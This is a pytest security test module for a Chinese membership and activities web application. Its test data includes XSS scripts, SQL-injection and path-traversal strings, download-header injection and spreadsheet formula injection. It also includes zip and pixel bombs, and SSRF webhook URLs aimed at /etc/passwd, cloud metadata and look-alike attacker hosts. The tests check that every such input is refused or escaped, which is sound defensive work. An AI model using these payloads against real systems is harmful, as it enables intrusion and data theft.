@pytest.mark.parametrize("payload", [SCRIPT, IMG], ids=["script", "img"])
def test_activity_pages_escape_stored_scripts(
    payload, org, people, make_member, office, settings, tmp_path
):
    """Titles, places, captions and names of activities are shown escaped."""
    from tongxin.activities import services

    settings.MEDIA_ROOT = tmp_path / "media"
    series = services.series_create(
        by=people.staff, organization=org.edu1, name=payload, short_name=payload[:50]
    )
    event = _event_for(
        org.edu1,
        people.staff,
        title=payload,
        place=payload,
        description=payload,
        series=series,
        edition=1,
    )
    services.signup_create(
        event=event, member=make_member(org.edu1, "报名会员"), by=people.root
    )
    partner = services.partner_create(
        by=office, organization=org.city, name=payload, kind="school", note=payload
    )
    program = services.program_create(
        by=office,
        organization=org.city,
        name=payload,
        kind="teaching",
        partner=partner,
        description=payload,
    )
    activity = services.service_activity_create(
        program=program,
        by=office,
        title=payload,
        held_on=dt.date(2024, 5, 1),
        place=payload,
        results=payload,
    )
    services.donation_add(
        activity=activity,
        by=office,
        kind="goods",
        value=10,
        description=payload,
        donor_name=payload,
    )
    fund = services.fund_create(
        by=office, organization=org.city, name=payload, description=payload
    )
    services.fund_entry_add(
        fund=fund,
        by=office,
        direction="in",
        on=dt.date(2024, 1, 1),
        amount=100,
        party_name=payload,
        purpose=payload,
    )
    photo = services.photo_add(
        by=office,
        organization=org.city,
        upload=upload("合影.jpg", _jpeg()),
        caption=payload,
        year=2024,
        people_text=payload,
        event=event,
    )
    a = lambda name, *args: reverse(f"activities:{name}", args=args)  # noqa: E731
    pages = [
        a("event_list"),
        a("event_list") + "?" + _query({"q": payload}),
        a("event_detail", event.pk),
        a("event_edit", event.pk),
        a("event_cancel", event.pk),
        a("attendance", event.pk),
        a("attendance_print", event.pk),
        a("signup_others", event.pk),
        a("series_list"),
        a("series_detail", series.pk),
        a("program_list"),
        a("program_detail", program.pk),
        a("program_edit", program.pk),
        a("fund_list"),
        a("fund_detail", fund.pk),
        a("photo_list"),
        a("photo_detail", photo.pk),
        a("photo_edit", photo.pk),
        a("my_events"),
    ]
    seen = 0
    for user in (people.staff, office, people.member):
        client = client_of(user)
        for url in pages:
            response = client.get(url)
            if response.status_code != 200:
                continue  # not this user's page; the matrix checks who sees what
            html = response.content.decode()
            for raw in RAW[payload]:
                assert raw not in html, f"{url} renders {raw!r} unescaped"
            seen += escape(payload) in html
            HOSTILE["stored script × page"] += 1
    assert seen >= len(pages)


def _stored_files() -> set[Path]:
    return _files_under(Path(settings.MEDIA_ROOT))


@pytest.mark.parametrize("filename", TRAVERSAL_NAMES)
def test_attachments_and_photos_get_random_names_whatever_the_client_says(
    filename, org, people, office, settings, tmp_path
):
    """Uploaded files land under MEDIA_ROOT with random names, nowhere else."""
    from tongxin.activities.models import EventAttachment, Photo

    settings.MEDIA_ROOT = tmp_path / "media"
    event = _event_for(org.edu1, people.staff)
    outside = _files_under(tmp_path) - _stored_files()
    pdf = b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer\n<< >>\n%%EOF\n"
    for name, data, url, user, fields in (
        (
            filename.replace(".csv", ".pdf"),
            pdf,
            reverse("activities:attachment_add", args=[event.pk]),
            people.staff,
            {"title": ""},
        ),
        (
            filename.replace(".csv", ".jpg"),
            _jpeg(),
            "/api/v1/activities/photos",
            office,
            {"caption": "合影", "organization": str(org.city.pk), "year": "2024"},
        ),
    ):
        body, content_type = multipart(fields, name, data)
        body = (
            body.replace(b'name="file"', b'name="image"') if "photos" in url else body
        )
        response = client_of(user).generic("POST", url, body, content_type=content_type)
        assert response.status_code in (201, 302, 400, 422), response.content[:300]
        HOSTILE["upload file name"] += 1
    for path in _stored_files():
        relative = path.relative_to(Path(settings.MEDIA_ROOT))
        assert relative.parts[0] in ("attachments", "photos"), relative
        assert re.fullmatch(r"[A-Za-z0-9_-]{20,}(\.thumb)?\.(pdf|jpg)", path.name), path
    assert _files_under(tmp_path) - _stored_files() == outside
    for attachment in EventAttachment.objects.all():
        assert "/" not in attachment.title and "\\" not in attachment.title
        assert "\x00" not in attachment.title
    assert Photo.objects.count() <= 1


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><body><script>alert(1)</script></body></html>"
#: (file name, content) of attachments that must be refused.
WRONG_ATTACHMENTS = [
    ("通知.pdf", HTML),
    ("通知.pdf", _png()),
    ("图片.png", SVG),
    ("网页.html", HTML),
    ("图.svg", SVG),
    ("程序.pdf", b"MZ\x90\x00\x03" + b"\x00" * 64),
    ("文档.docx", _valid_xlsx()),  # an Excel workbook named .docx
    ("文档.pdf", b"%PDF"[:3] + b"X-1.4"),
    ("空.pdf", b""),
    ("宏.xlsm", _xlsm()),
    ("炸弹.png", _pixel_bomb()),
]
#: Photos that must be refused.
WRONG_PHOTOS = [
    ("合影.jpg", HTML),
    ("合影.jpg", _png()),  # a PNG named .jpg
    ("合影.svg", SVG),
    ("合影.png", SVG),
    ("合影.jpg", b"%PDF-1.4\n"),
    ("炸弹.png", _pixel_bomb()),
    ("截断.jpg", _jpeg()[:200]),
    ("空.jpg", b""),
]


@pytest.mark.parametrize(("filename", "data"), WRONG_ATTACHMENTS)
def test_attachments_of_the_wrong_kind_are_refused_in_chinese(
    filename, data, org, people, settings, tmp_path, db_state
):
    settings.MEDIA_ROOT = tmp_path / "media"
    event = _event_for(org.edu1, people.staff)
    before = db_state()
    response = client_of(people.staff).post(
        reverse("activities:attachment_add", args=[event.pk]),
        {"file": upload(filename, data), "title": ""},
        follow=True,
    )
    messages = [str(m) for m in response.context["messages"]]
    assert messages and all(chinese(m) for m in messages), messages
    assert db_state() == before
    assert not _stored_files()
    HOSTILE["wrong file"] += 1


@pytest.mark.parametrize(("filename", "data"), WRONG_PHOTOS)
def test_photos_of_the_wrong_kind_are_refused_in_chinese(
    filename, data, org, office, settings, tmp_path, db_state
):
    settings.MEDIA_ROOT = tmp_path / "media"
    before = db_state()
    response = client_of(office).post(
        "/api/v1/activities/photos",
        {
            "image": upload(filename, data),
            "caption": "合影",
            "organization": str(org.city.pk),
            "year": "2024",
        },
    )
    assert response.status_code in (400, 422), response.content[:300]
    assert chinese(response.json()["detail"])
    assert db_state() == before
    assert not _stored_files()
    HOSTILE["wrong file"] += 1


def test_oversized_attachments_and_photos_are_refused(
    org, people, office, settings, tmp_path, db_state
):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TONGXIN_MAX_UPLOAD_BYTES = 1000
    settings.TONGXIN_MAX_PHOTO_BYTES = 1000
    event = _event_for(org.edu1, people.staff)
    before = db_state()
    big_pdf = b"%PDF-1.4\n" + b"0" * 5000
    response = client_of(people.staff).post(
        reverse("activities:attachment_add", args=[event.pk]),
        {"file": upload("大.pdf", big_pdf)},
        follow=True,
    )
    assert any("太大" in str(m) for m in response.context["messages"])
    response = client_of(office).post(
        "/api/v1/activities/photos",
        {
            "image": upload("大.jpg", _jpeg((400, 400))),
            "caption": "合影",
            "organization": str(org.city.pk),
            "year": "2024",
        },
    )
    assert response.status_code == 422 and "太大" in response.json()["detail"]
    assert db_state() == before
    assert not _stored_files()
    HOSTILE["oversized"] += 2


def test_an_attachment_title_cannot_forge_the_download_header(
    org, people, settings, tmp_path
):
    from tongxin.activities import services

    settings.MEDIA_ROOT = tmp_path / "media"
    event = _event_for(org.edu1, people.staff)
    pdf = b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n"
    attachment = services.event_attachment_add(
        event=event,
        by=people.staff,
        upload=upload("a.pdf", pdf),
        title='x"; filename="evil.exe',
    )
    response = client_of(people.staff).get(
        reverse("activities:attachment_download", args=[event.pk, attachment.pk])
    )
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="evil.exe' not in disposition
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    HOSTILE["header injection"] += 1


def test_the_attendance_export_neutralises_formulas(org, people, make_member):
    from django.utils import timezone

    from tongxin.activities import services

    start = timezone.now().replace(microsecond=0) - dt.timedelta(hours=1)
    event = services.event_create(
        by=people.staff,
        organization=org.edu1,
        title='=HYPERLINK("http://x")',
        kind="lecture",
        start_at=start,
        end_at=start + dt.timedelta(hours=3),
    )
    members = [
        make_member(org.edu1, formula, work_unit=formula) for formula in FORMULAS
    ]
    services.attendance_mark(event=event, members=members, by=people.staff)
    response = client_of(people.staff).get(
        reverse("activities:attendance_export", args=[event.pk])
    )
    assert response.status_code == 200
    data = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(DANGEROUS_START), cell.value
    assert any("HYPERLINK" in t for t in texts)
    HOSTILE["formula × exported field"] += len(FORMULAS)


# === the count ===============================================================

# === the members' SMS sign-in (会员之家) =========================================

SMS_HOSTILE = [
    SCRIPT,
    IMG,
    "13800000011\x00",
    "' OR '1'='1' --",
    "1" * 10_000,
    "\u202e11000000831",
    "١٣٨٠٠٠٠٠٠١١",  # Arabic-Indic digits
    "13800000011<b>",
]


@pytest.mark.parametrize("value", SMS_HOSTILE)
def test_hostile_phone_and_code_values_are_refused_in_chinese(value, db):
    """Nothing is sent or stored, the page says why in Chinese, nothing unescaped."""
    from tongxin.memberhome.models import SmsCode

    client = Client()
    client.raise_request_exception = False
    response = client.post("/m/login/", {"phone": value})
    assert response.status_code == 200
    text = response.content.decode()
    assert 'class="tx-field-errors"' in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    assert not SmsCode.objects.exists()
    # The code field, for a number that asked for one.
    assert client.post("/m/login/", {"phone": "13900000001"}).status_code == 302
    response = client.post("/m/login/code/", {"code": value, "remember": value})
    assert response.status_code == 200
    text = response.content.decode()
    assert "tx-field-errors" in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    assert "_auth_user_id" not in client.session
    HOSTILE["SMS sign-in field"] += 2


# --- group robots' webhooks and secrets, the WeChat callback ---------------------

#: Webhook addresses: only https to the platform's own host is accepted, so
#: none of these (internal addresses, other schemes, look-alike hosts) is stored.
WEBHOOK_HOSTILE = [
    SCRIPT,
    IMG,
    "javascript:alert(1)",
    "file:///etc/passwd",
    "gopher://127.0.0.1:25/",
    "http://127.0.0.1:8000/admin/",
    "https://169.254.169.254/latest/meta-data/",
    "https://10.1.2.3/cgi-bin/webhook/send?key=k",
    "https://[::1]/cgi-bin/webhook/send",
    "https://qyapi.weixin.qq.com@evil.example/x",
    "https://qyapi.weixin.qq.com.evil.example/x",
    "http://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=k",
    "https://qyapi.weixin.qq.com/x\r\nX-Injected: 1",
    "https://qyapi.weixin.qq.com/\x00",
    "https://qyapi.weixin.qq.com/" + "k" * 10_000,
]


@pytest.mark.parametrize("value", WEBHOOK_HOSTILE)
def test_hostile_robot_webhooks_and_secrets_are_refused_or_never_shown(
    value, org, people
):
    """A hostile webhook is refused in Chinese; a hostile secret is stored
    encrypted and never rendered."""
    from tests.activities.conftest import login_user
    from tongxin.publicity.models import GroupRobot

    keeper = login_user(
        "robot_keeper", root=people.root, role="staff_publicity", node=org.city
    )
    client = client_of(keeper)
    client.raise_request_exception = False
    form = {
        "organization": org.edu1.pk,
        "kind": "wecom",
        "name": "支部群",
        "webhook_url": value,
    }
    response = client.post("/publicity/robots/", form)
    assert response.status_code == 200
    text = response.content.decode()
    assert "tx-error" in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    assert not GroupRobot.objects.exists()
    secret = value[:200]
    response = client.post(
        "/publicity/robots/",
        {
            **form,
            "kind": "dingtalk",
            "webhook_url": "https://oapi.dingtalk.com/robot/send?access_token=t",
            "secret": secret,
        },
    )
    if "\x00" in secret:
        assert response.status_code == 200 and chinese(response.content.decode())
        assert not GroupRobot.objects.exists()
    else:
        assert response.status_code == 302
        assert GroupRobot.objects.get().secret == secret.strip()
    page = client.get("/publicity/robots/").content.decode()
    assert secret not in page or not secret.strip()
    for raw in RAW.get(value, ()):
        assert raw not in page
    callback = Client()
    callback.raise_request_exception = False
    response = callback.get(
        "/publicity/wechat/callback/", {"state": value, "code": value}
    )
    assert response.status_code == 400 and chinese(response.content.decode())
    for raw in RAW.get(value, ()):
        assert raw not in response.content.decode()
    HOSTILE["robot webhook, secret, WeChat callback"] += 3


@pytest.mark.parametrize("value", WEBHOOK_HOSTILE)
def test_hostile_robot_edits_on_the_page_and_the_api_are_refused_or_never_shown(
    value, org, people
):
    """Editing a robot with a hostile webhook changes nothing (page and API);
    a hostile name is refused or stored and shown escaped, never the secret."""
    from tests.activities.conftest import login_user
    from tongxin.publicity.models import GroupRobot
    from tongxin.publicity.services.channels import robot_save

    keeper = login_user(
        "robot_editor", root=people.root, role="staff_publicity", node=org.city
    )
    robot = robot_save(
        by=keeper,
        organization=org.edu1,
        kind="wecom",
        name="支部群",
        webhook_url="https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=k",
    )
    client = client_of(keeper)
    client.raise_request_exception = False
    url = f"/publicity/robots/{robot.pk}/edit/"
    response = client.post(url, {"name": "支部群", "webhook_url": value, "version": 1})
    assert response.status_code == 200
    text = response.content.decode()
    assert "tx-error" in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    api = f"/api/v1/publicity/robots/{robot.pk}"
    response = client.patch(
        api, {"version": 1, "webhook_url": value}, content_type="application/json"
    )
    assert response.status_code == 422 and chinese(response.content.decode())
    robot.refresh_from_db()
    assert (robot.webhook_host, robot.version) == ("qyapi.weixin.qq.com", 1)
    name = value[:50]
    response = client.patch(
        api, {"version": 1, "name": name}, content_type="application/json"
    )
    if "\x00" in name or not name.strip():
        assert response.status_code == 422 and chinese(response.content.decode())
        assert GroupRobot.objects.get().name == "支部群"
    else:
        assert response.status_code == 200, response.content
        assert GroupRobot.objects.get().name == name.strip()
        page = client.get("/publicity/robots/").content.decode()
        page += client.get(url).content.decode()
        for raw in RAW.get(value, ()):
            assert raw not in page
    HOSTILE["robot edit (page and API)"] += 3


# --- ledgers (台账导入): formulas, damaged and oversized workbooks, zip bombs ---


def _ledger_with_formula() -> bytes:
    from tests.ledger.helpers import fill
    from tongxin.ledger.services import ledger_template
    from tongxin.members.roster.actor import SYSTEM_ACTOR

    template = ledger_template(by=SYSTEM_ACTOR, kind="activities")
    data = fill(
        template,
        [
            {
                "日期": "2024-05-18",
                "活动名称": '=HYPERLINK("http://x","点我")',
                "活动类型": "座谈会",
                "主办组织": "G1B1",
            }
        ],
    )
    # openpyxl stores a text starting with "=" as a formula: the hostile cell.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" in archive.read("xl/worksheets/sheet1.xml")
    return data


def test_hostile_ledgers_are_refused_in_chinese(org, people, db_state):
    """A ledger with formulas, a damaged one, an oversized one and a zip bomb
    are refused with a Chinese message on the page, the API and the CLI, and
    write nothing."""
    from django.core.management import CommandError, call_command

    client = client_of(people.staff)
    before = db_state()
    cases = [
        ("formula", "公式", _ledger_with_formula()),
        ("wrong file", "损坏", zipfile_damaged()),
        ("zip bomb", "压缩比", zip_bomb(30)),
    ]
    for kind, words, data in cases:
        web = client.post(
            reverse("ledger:import"),
            {"kind": "activities", "mode": "all", "file": upload("台账.xlsx", data)},
        )
        assert web.status_code == 400 and words in web.content.decode(), kind
        api = client.post(
            "/api/v1/ledger/activities/import",
            {"file": upload("台账.xlsx", data), "commit": "true"},
        )
        assert api.status_code == 400 and words in api.content.decode(), kind
        HOSTILE["ledger with formulas" if kind == "formula" else kind] += 2
    path = Path(settings.VAR_DIR) / "公式.xlsx"
    path.write_bytes(cases[0][2])
    with pytest.raises(CommandError) as refused:
        call_command("import_ledger", "activities", str(path), "--commit")
    assert refused.value.returncode == 2 and "公式" in str(refused.value)
    HOSTILE["ledger with formulas"] += 1
    with override_settings(TONGXIN_MAX_UPLOAD_BYTES=1000):
        big = client.post(
            "/api/v1/ledger/activities/import",
            {"file": upload("大.xlsx", cases[0][2]), "commit": "true"},
        )
    assert big.status_code == 400 and "文件太大" in big.content.decode()
    HOSTILE["oversized"] += 1
    assert db_state() == before
    assert not _files_under(Path(settings.VAR_DIR) / "uploads")


def zipfile_damaged() -> bytes:
    """A workbook cut short, as an upload that did not finish."""
    return _ledger_with_formula()[:1500]


@pytest.mark.parametrize("value", SMS_HOSTILE)
def test_hostile_change_request_values_are_refused_or_escaped(value, people):
    """A member's change request: a hostile mobile or e-mail is refused in
    Chinese with nothing stored; hostile text is stored as text and shown escaped."""
    from tongxin.members.models import ChangeRequest

    member, staff = Client(), Client()
    member.force_login(people.member)
    staff.force_login(people.staff)
    blank = dict.fromkeys(
        ("mobile", "email", "address", "work_unit", "job", "title", "education"), ""
    )
    response = member.post("/m/details/", {**blank, "mobile": value, "email": value})
    assert response.status_code == 400
    text = response.content.decode()
    assert "tx-field-errors" in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    assert not ChangeRequest.objects.exists()
    response = member.post("/m/details/", {**blank, "work_unit": value, "note": value})
    text = response.content.decode()
    if response.status_code == 302:  # stored as typed: every page escapes it
        change = ChangeRequest.objects.get()
        for page in (member.get("/m/details/"), staff.get(change.get_absolute_url())):
            assert page.status_code == 200
            for raw in RAW.get(value, ()):
                assert raw not in page.content.decode()
    else:
        assert response.status_code == 400 and chinese(text)
        assert not ChangeRequest.objects.exists()
    HOSTILE["change request field"] += 2


# --- the member's check-in code, scanned or typed by staff ----------------------


@pytest.mark.parametrize("value", [*SMS_HOSTILE, "A" * 64 + "\x00", "%00" * 20])
def test_hostile_check_in_codes_are_refused_in_chinese(value, org, people):
    """A hostile code on the scan page and the API records nothing and says why."""
    from django.utils import timezone

    from tongxin.activities.models import Attendance, Event
    from tongxin.activities.services import event_create

    start = timezone.now().replace(microsecond=0) - dt.timedelta(hours=1)
    event = event_create(
        by=people.staff,
        organization=org.city,
        title="扫码签到演练",
        kind="lecture",
        start_at=start + dt.timedelta(days=1),
        end_at=start + dt.timedelta(days=1, hours=3),
    )
    Event.objects.filter(pk=event.pk).update(
        start_at=start, end_at=start + dt.timedelta(hours=3)
    )
    staff = client_of(people.staff)
    staff.raise_request_exception = False
    response = staff.post(f"/activities/{event.pk}/attendance/scan/", {"code": value})
    assert response.status_code == 400
    text = response.content.decode()
    assert "tx-field-errors" in text and chinese(text)
    for raw in RAW.get(value, ()):
        assert raw not in text
    response = staff.post(
        f"/api/v1/activities/events/{event.pk}/attendance/scan",
        {"code": value},
        content_type="application/json",
    )
    assert response.status_code in (400, 422), response.status_code
    assert chinese(json.dumps(response.json(), ensure_ascii=False))
    assert not Attendance.objects.exists()
    HOSTILE["check-in code field"] += 2


@pytest.mark.parametrize("value", SMS_HOSTILE)
def test_hostile_online_application_values_are_refused_or_escaped(
    value, org, people, make_member, settings, tmp_path
):
    """Applying to join online: a hostile introducer mobile or scan is refused
    in Chinese with nothing stored; a hostile name or work unit is stored as
    text and shown escaped to the applicant, the introducer and staff."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.activities.conftest import login_user
    from tests.conftest import make_id_number
    from tongxin.core import crypto
    from tongxin.lifecycle.models import Application
    from tongxin.memberhome.views import JOIN_KEY

    settings.MEDIA_ROOT = tmp_path / "media"
    zhang = make_member(org.edu1, "张介绍", mobile="13800000071")
    make_member(org.edu1, "刘推荐", mobile="13800000072")
    applicant = Client()
    session = applicant.session
    session[JOIN_KEY] = {
        "digest": "d" * 64,
        "mask": "137****0055",
        "phone": crypto.encrypt("13700000055"),
        "verified": True,
    }
    session.save()
    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

    def data(**over):
        d = {
            "organization": org.edu1.pk,
            "name": "周申请",
            "id_number": make_id_number(dt.date(1990, 5, 6), True, 3),
            "scan": SimpleUploadedFile("表.pdf", pdf, "application/pdf"),
            "introducer_1_name": "张介绍",
            "introducer_1_mobile": "13800000071",
            "introducer_2_name": "刘推荐",
            "introducer_2_mobile": "13800000072",
        }
        d.update(over)
        return d

    for over in (
        {"introducer_1_mobile": value},
        {"introducer_2_name": value},
        {"scan": SimpleUploadedFile(f"{value[:40]}.pdf", value.encode(), "x/y")},
    ):
        response = applicant.post("/m/join/apply/", data(**over))
        assert response.status_code == 400, over
        text = response.content.decode()
        assert chinese(text)
        for raw in RAW.get(value, ()):
            assert raw not in text
        assert not Application.objects.exists()
    response = applicant.post("/m/join/apply/", data(name=value, work_unit=value))
    if response.status_code == 302:
        app = Application.objects.get()
        user = login_user("zhang_intro", root=people.root, member=zhang)
        introducer = Client()
        introducer.force_login(user)
        staff = client_of(people.staff)
        for page in (
            applicant.get(response["Location"]),
            introducer.get("/m/"),
            staff.get(f"/lifecycle/applications/{app.pk}/"),
        ):
            assert page.status_code == 200
            for raw in RAW.get(value, ()):
                assert raw not in page.content.decode()
    else:
        assert response.status_code == 400 and chinese(response.content.decode())
        assert not Application.objects.exists()
    HOSTILE["online application field"] += 4


HOSTILE: dict[str, int] = {
    "stored script × page": 0,
    "stored script × field": 0,
    "stored script × API answer": 0,
    "roster with scripts": 0,
    "formula × exported field": 0,
    "header injection": 0,
    "upload file name": 0,
    "wrong file": 0,
    "oversized": 0,
    "zip bomb": 0,
    "encoding": 0,
    "NUL in a query": 0,
    "SMS sign-in field": 0,
    "ledger with formulas": 0,
    "change request field": 0,
    "check-in code field": 0,
    "online application field": 0,
    "robot webhook, secret, WeChat callback": 0,
    "robot edit (page and API)": 0,
}


#: The tests that try each kind of hostile input.
#: The tests of this module run by this process (see the count test below).
RAN: set[str] = set()


@pytest.fixture(autouse=True)
def _record_ran(request):
    RAN.add(request.node.originalname)


TRIED_BY: dict[str, tuple[str, ...]] = {
    "check-in code field": ("test_hostile_check_in_codes_are_refused_in_chinese",),
    "online application field": (
        "test_hostile_online_application_values_are_refused_or_escaped",
    ),
    "robot webhook, secret, WeChat callback": (
        "test_hostile_robot_webhooks_and_secrets_are_refused_or_never_shown",
    ),
    "robot edit (page and API)": (
        "test_hostile_robot_edits_on_the_page_and_the_api_are_refused_or_never_shown",
    ),
    "ledger with formulas": ("test_hostile_ledgers_are_refused_in_chinese",),
    "SMS sign-in field": ("test_hostile_phone_and_code_values_are_refused_in_chinese",),
    "change request field": (
        "test_hostile_change_request_values_are_refused_or_escaped",
    ),
    "stored script × page": (
        "test_stored_scripts_are_escaped_on_every_page",
        "test_the_administrators_pages_escape_stored_scripts",
        "test_activity_pages_escape_stored_scripts",
    ),
    "stored script × field": ("test_stored_scripts_are_escaped_on_every_page",),
    "stored script × API answer": ("test_the_api_answers_stored_scripts_as_json",),
    "roster with scripts": ("test_a_roster_with_scripts_previews_escaped",),
    "formula × exported field": (
        "test_exports_neutralise_formulas_and_reimport_restores_them",
        "test_the_api_export_neutralises_formulas",
        "test_the_audit_export_neutralises_formulas",
        "test_the_attendance_export_neutralises_formulas",
    ),
    "header injection": (
        "test_a_hostile_organization_name_cannot_forge_the_download_header",
        "test_an_attachment_title_cannot_forge_the_download_header",
    ),
    "upload file name": (
        "test_uploads_are_stored_under_a_random_name_whatever_the_client_says",
        "test_attachments_and_photos_get_random_names_whatever_the_client_says",
    ),
    "wrong file": (
        "test_files_of_the_wrong_kind_are_refused_in_chinese",
        "test_hostile_ledgers_are_refused_in_chinese",
        "test_attachments_of_the_wrong_kind_are_refused_in_chinese",
        "test_photos_of_the_wrong_kind_are_refused_in_chinese",
    ),
    "oversized": (
        "test_oversized_uploads_are_refused_before_they_are_read",
        "test_hostile_ledgers_are_refused_in_chinese",
        "test_oversized_attachments_and_photos_are_refused",
    ),
    "zip bomb": (
        "test_zip_bombs_are_refused_in_little_memory",
        "test_hostile_ledgers_are_refused_in_chinese",
    ),
    "encoding": (
        "test_csv_in_the_encodings_excel_writes_is_read_correctly",
        "test_csv_with_bytes_no_encoding_explains_is_refused",
    ),
    "NUL in a query": (
        "test_a_nul_byte_in_a_query_is_refused_in_chinese_not_a_server_error",
        "test_a_nul_byte_in_a_member_search_for_a_post_is_ignored",
    ),
}


def test_every_kind_of_hostile_input_was_tried(request, capsys):
    """Each kind of hostile input was tried by the tests that ran (run after them).

    A kind whose tests ran but counted nothing -- a loop over an empty list
    of pages, fields or files -- fails here; so does a test added without
    saying which kind it tries.  The figures are printed for the closing note.
    """
    # The tests of this module that ran in this process: with several
    # workers each counts only what it ran.
    ran = RAN - {request.node.originalname}
    assert set(TRIED_BY) == set(HOSTILE)
    assert ran <= {t for tests in TRIED_BY.values() for t in tests}
    for kind, tests in TRIED_BY.items():
        assert (HOSTILE[kind] > 0) == bool(ran & set(tests)), kind
    with capsys.disabled():
        total = sum(HOSTILE.values())
        detail = ", ".join(f"{k} {v}" for k, v in HOSTILE.items())
        print(f"\nhostile inputs tried: {total} ({detail})")
